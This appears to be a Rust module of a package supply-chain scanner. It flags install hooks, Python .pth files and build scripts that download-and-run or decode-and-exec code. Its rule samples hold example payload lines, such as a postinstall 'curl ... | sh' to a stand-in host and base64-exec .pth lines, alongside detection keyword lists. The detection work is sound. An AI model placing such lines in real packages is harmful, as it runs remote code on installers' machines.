//! What packages run when they are installed, built or imported.

use super::command::{Danger, is_blob, judge};
use super::file::File;
use super::hooks::hooks;
use super::jsonc::place;
use super::report::{Findings, escape};
use super::rule::{Level, Rule};
use super::shell::{self, what};
use super::{Found, indicators};

pub(super) static INSTALL_HOOK_DOWNLOAD: Rule = Rule {
    id: "install_hook_download",
    title: "install hook that runs what it downloads",
    level: Level::Heuristic,
    summary: "a script that installing the package runs, runs what it downloads",
    explain: "npm runs preinstall, install, postinstall and prepare on every machine that installs the package, and what they fetch can change at any time.",
    next_step: "Ship what is needed in the package, or fetch it with a digest.",
    samples: &[&[(
        "package.json",
        "{\"scripts\": {\"postinstall\": \"curl -s https://x.example.org/a | sh\"}}",
    )]],
    decoys: &[
        &[(
            "package.json",
            "{\"scripts\": {\"start\": \"curl -s https://x.example.org/a | sh\"}}",
        )],
        &[(
            "package.json",
            "{\"scripts\": {\"postinstall\": \"node-gyp rebuild\"}}",
        )],
    ],
};

pub(super) static PYTHON_STARTUP_PAYLOAD: Rule = Rule {
    id: "python_startup_payload",
    title: "payload in a .pth file",
    level: Level::Certain,
    summary: "every start of Python runs what this file decodes or downloads",
    explain: "A line of a .pth file that begins with `import` is run by every Python that sees the folder. One that decodes, downloads or starts another interpreter is malware.",
    next_step: "Remove the file, and treat machines that installed it as taken over.",
    samples: &[
        &[(
            "x/a.pth",
            "import base64{}; exec(base64.b64decode('{b64:40}'))",
        )],
        &[(
            "a.pth",
            "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', \"import {}base64; exec(base64.b64decode('{b64:40}'))\"])",
        )],
    ],
    decoys: &[
        &[(
            "a.pth",
            "import sys; exec('try: import coverage; coverage.process_startup()\\nexcept ImportError: pass')",
        )],
        &[("a.pth", "../lib/python/site-packages")],
    ],
};

pub(super) static PYTHON_STARTUP_CODE: Rule = Rule {
    id: "python_startup_code",
    title: "code in a .pth file",
    level: Level::Heuristic,
    summary: "every start of Python runs code of this file",
    explain: "A line that begins with `import` and evaluates a string or starts a process. Lines that only import a module are left alone.",
    next_step: "Put the code in a module that is imported where it is needed.",
    samples: &[&[("a.pth", "import os; os.system('echo started')")]],
    decoys: &[&[("a.pth", "import _virtualenv")]],
};

pub(super) static BUILD_SCRIPT_DOWNLOAD: Rule = Rule {
    id: "build_script_download",
    title: "build script that runs what it downloads",
    level: Level::Heuristic,
    summary: "a build script runs what it downloads or decodes",
    explain: "`setup.py` and `build.rs` run on every machine that builds the package. Downloads alone are left alone.",
    next_step: "Ship what is needed in the package, or fetch it with a digest.",
    samples: &[
        &[(
            "setup.py",
            "import os\nos.system('curl -s https://x.example.org/a | sh')",
        )],
        &[(
            "setup.py",
            "exec(urlopen('https://x.example.org/a').read())",
        )],
        &[(
            "build.rs",
            "fn main() { Command::new(\"sh\").arg(\"-c\").arg(\"curl https://x.example.org/a | sh\"); }",
        )],
    ],
    decoys: &[
        &[(
            "setup.py",
            "data = urlopen('https://x.example.org/a').read()\nsubprocess.run(['make'])",
        )],
        &[("src/build.rs", "// curl https://x.example.org/a | sh")],
        &[("main.py", "exec(urlopen('https://x.example.org/a').read())")],
    ],
};

/// A string of a build script is looked at up to this length.
const MAX_STRING: usize = 1024;

/// Whether the file is read as a whole.
pub(super) fn concerns(file: &File<'_>) -> bool {
    matches!(file.name(), "package.json" | "setup.py" | "build.rs") || file.extension() == "pth"
}

pub(super) fn search(file: &File<'_>, text: &[u8], found: &mut Findings) {
    match file.name() {
        "package.json" => manifest(file, text, found),
        "setup.py" | "build.rs" => build_script(text, found),
        _ if file.extension() == "pth" => startup(text, found),
        _ => {}
    }
}

fn manifest(file: &File<'_>, text: &[u8], found: &mut Findings) {
    let Ok(lines) = hooks(text) else {
        found.unread = true;
        return;
    };
    for line in lines {
        let range = place(text, &line);
        if let Some(danger) = judge(&line) {
            let rule = match danger {
                Danger::ReverseShell => &shell::REVERSE_SHELL,
                Danger::Decoded => &shell::DECODED_PAYLOAD_RUN,
                Danger::NamelessDownload => &shell::SUSPECT_DOWNLOAD_RUN,
                Danger::Download | Danger::DecodedUnknown => &INSTALL_HOOK_DOWNLOAD,
            };
            found.push(Found {
                rule,
                range: range.clone(),
                message: format!(
                    "a script that installing the package runs, {}: {}",
                    what(danger),
                    escape(&line)
                ),
                hidden: None,
            });
        }
        indicators::in_hook(file, &line, range, found);
    }
}

fn startup(text: &[u8], found: &mut Findings) {
    let mut at = 0;
    for line in text.split_inclusive(|&byte| byte == b'\n') {
        let range = at..at + line.trim_ascii_end().len();
        at += line.len();
        if !(line.starts_with(b"import ") || line.starts_with(b"import\t")) {
            continue;
        }
        let line = String::from_utf8_lossy(&line[..line.len().min(64 * 1024)]);
        let has = |any: &[&str]| any.iter().any(|one| line.contains(one));
        let runs = has(&[
            "exec(",
            "eval(",
            "os.system(",
            "os.popen(",
            "subprocess",
            "os.exec",
        ]);
        let decodes = has(&[
            "b64decode(",
            "fromhex(",
            "marshal.loads(",
            "zlib.decompress(",
        ]) && is_blob(&line);
        let fetches = has(&["urlopen(", "requests.get(", "http.client", "socket."]);
        let rule = if runs && (decodes || fetches) {
            &PYTHON_STARTUP_PAYLOAD
        } else if runs && !line.contains("process_startup") {
            &PYTHON_STARTUP_CODE
        } else {
            continue;
        };
        found.push(Found {
            rule,
            range,
            message: format!("{}: {}", rule.summary, escape(line.trim())),
            hidden: None,
        });
    }
}

fn build_script(text: &[u8], found: &mut Findings) {
    for program in [b"curl ".as_slice(), b"wget ", b"powershell ", b"/dev/tcp/"] {
        let mut done = 0;
        for at in memchr::memmem::find_iter(text, program) {
            let Some(range) = string(text, at).filter(|_| at >= done) else {
                continue;
            };
            done = range.end;
            let line = String::from_utf8_lossy(&text[range.clone()]);
            if let Some(danger) = judge(&line) {
                push(
                    range,
                    format!("a build script {}: {}", what(danger), escape(&line)),
                    found,
                );
            }
        }
    }
    for run in [b"exec(".as_slice(), b"eval("] {
        for at in memchr::memmem::find_iter(text, run) {
            let rest = &text[at..text.len().min(at + 200)];
            let end = at + memchr::memchr(b'\n', rest).unwrap_or(rest.len());
            let line = String::from_utf8_lossy(&text[at..end]);
            if ["urlopen(", "requests.get("]
                .iter()
                .any(|fetch| line.contains(fetch))
            {
                push(
                    at..end,
                    format!("{}: {}", BUILD_SCRIPT_DOWNLOAD.summary, escape(&line)),
                    found,
                );
            }
        }
    }
}

fn push(range: std::ops::Range<usize>, message: String, found: &mut Findings) {
    found.push(Found {
        rule: &BUILD_SCRIPT_DOWNLOAD,
        range,
        message,
        hidden: None,
    });
}

/// The inside of the string around `at`, on one line.
fn string(text: &[u8], at: usize) -> Option<std::ops::Range<usize>> {
    let floor = at.saturating_sub(MAX_STRING);
    let start =
        memchr::memrchr3(b'"', b'\'', b'\n', &text[floor..at]).map(|start| floor + start)?;
    let quote = Some(text[start]).filter(|byte| *byte != b'\n')?;
    let rest = &text[at..text.len().min(at + MAX_STRING)];
    let length = memchr::memchr2(quote, b'\n', rest)?;
    (rest[length] == quote).then_some(start + 1..at + length)
}
